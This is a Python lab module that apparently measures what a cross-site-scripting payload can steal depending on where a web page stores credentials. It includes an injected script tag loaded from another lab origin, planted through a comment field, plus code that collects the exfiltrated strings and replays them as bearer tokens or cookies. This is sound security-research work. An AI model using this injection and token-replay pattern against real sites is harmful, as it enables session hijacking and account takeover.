"""header-storage: what an injected script gets of a credential, by where the page keeps it.

The script comes through a hole of the application's own page, looks everywhere, listens, and sends what it found to
another site. A credential counts as read when what arrived there works in a client that is no browser.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import asdict, dataclass
from typing import Any

from loadtests.chromium import BrowserError
from loadtests.lab_site import OTHER, Server, Site

HTTP_ONLY = "HttpOnly cookie"
_PLACES = {
    "bearer token": ("localStorage", "sessionStorage", "global variable", "closure variable", "script cookie"),
    "session cookie": (HTTP_ONLY,),
    "token cookie": (HTTP_ONLY,),
}
_WORD = re.compile(r"[A-Za-z0-9_.-]{20,}")
_OK = 200


@dataclass(frozen=True)
class Theft:
    """One row of the table.

    Attributes:
        credential: `bearer token`, `session cookie` or `token cookie`.
        place: where the page keeps it.
        read_at_rest: what a script that looks around sent away works elsewhere.
        read_in_use: so does what one sent away that listens to the application's own requests and their answers.
        used_in_page: the script changed the user's state by a request from the page.
        found_at_rest, found_in_use: texts that were sent away.

    """

    credential: str
    place: str
    read_at_rest: bool
    read_in_use: bool
    used_in_page: bool
    found_at_rest: int
    found_in_use: int

    def as_dict(self) -> dict[str, Any]:
        """For lab.json."""
        return asdict(self)


def servers(*, quick: bool) -> tuple[Server, ...]:
    """Every server whose page is attacked; all protections are on."""
    cookies = Server("session cookie", "session"), Server("token cookie", "token", {"carrier": "cookie"})
    return (Server("bearer token", "token"), *cookies[: 1 if quick else 2])


def steal(site: Site) -> Iterator[Theft]:
    """Every place on one server. Raises BrowserError, TimeoutError."""
    script = f'<script src="{site.url(OTHER)}/lab/injected.js"></script>'
    for place in _PLACES[site.server.name]:
        number = site.sign_in(place, comment=script)
        at_rest = _sent_home(site, number, "at rest")
        if (status := site.click("refresh")) != _OK:
            raise BrowserError(f"{site.server.name} in {place}: the page's own request was answered {status}")
        _press_save(site)
        in_use = _sent_home(site, number, "in use")
        acted = site.browser.evaluate(f"injected.act({number}000)")
        (answered,) = site.seen(f"{number}000")
        if answered.status != acted:
            raise BrowserError(f"{site.server.name} in {place}: the script saw {acted}, the balancer {answered}")
        yield Theft(
            credential=site.server.name,
            place=place,
            read_at_rest=_works(site, at_rest),
            read_in_use=_works(site, in_use),
            used_in_page=answered.status == _OK,
            found_at_rest=len(at_rest),
            found_in_use=len(in_use),
        )


def _press_save(site: Site) -> None:
    if (status := site.click("save")) != _OK:
        raise BrowserError(f"{site.server.name}: the page's own change was answered {status}")


def _sent_home(site: Site, number: str, when: str) -> list[str]:
    key = f"{number}-{when.replace(' ', '-')}"
    site.browser.evaluate(f"injected.report('{when}', '{key}')")
    return [each for each in site.pages.loot(key) if each]


def _works(site: Site, texts: list[str]) -> bool:
    """Whether anything in the texts is a credential: tried as a bearer and as the cookie, from outside the browser."""
    words = dict.fromkeys(word for text in texts for word in _WORD.findall(text))
    lines = [f"Authorization: Bearer {word}\r\n" for word in words]
    if site.server.cookie:
        lines += [f"Cookie: {site.server.cookie}={word}\r\n" for word in words]
    return any(site.ask(line.encode()) for line in lines)
